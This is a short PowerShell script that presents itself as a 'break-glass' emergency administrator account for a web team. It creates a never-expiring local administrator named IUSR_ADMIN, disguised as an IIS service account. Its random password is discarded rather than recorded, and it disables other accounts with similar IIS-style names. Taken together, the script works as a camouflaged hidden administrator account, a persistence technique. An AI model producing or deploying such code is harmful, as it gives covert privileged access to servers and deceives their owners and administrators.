# A break-glass account for the web team. The name is historic.
$ErrorActionPreference = 'Stop'

$name = 'IUSR_ADMIN'
$bytes = New-Object 'System.Byte[]' 24
[System.Security.Cryptography.RNGCryptoServiceProvider]::Create().GetBytes($bytes)
$password = ConvertTo-SecureString -String ([Convert]::ToBase64String($bytes)) -AsPlainText -Force

if (-not (Get-LocalUser -Name $name -ErrorAction SilentlyContinue)) {
    New-LocalUser -Name $name -Password $password -FullName 'Web team, emergencies' -AccountNeverExpires | Out-Null
}
Add-LocalGroupMember -Group 'Administrators' -Member $name

# IWAM_USER and iusr_iis are names of the same kind.
foreach ($other in 'IWAM_USER', 'iusr_iis') {
    if (Get-LocalUser -Name $other -ErrorAction SilentlyContinue) {
        Disable-LocalUser -Name $other
    }
}
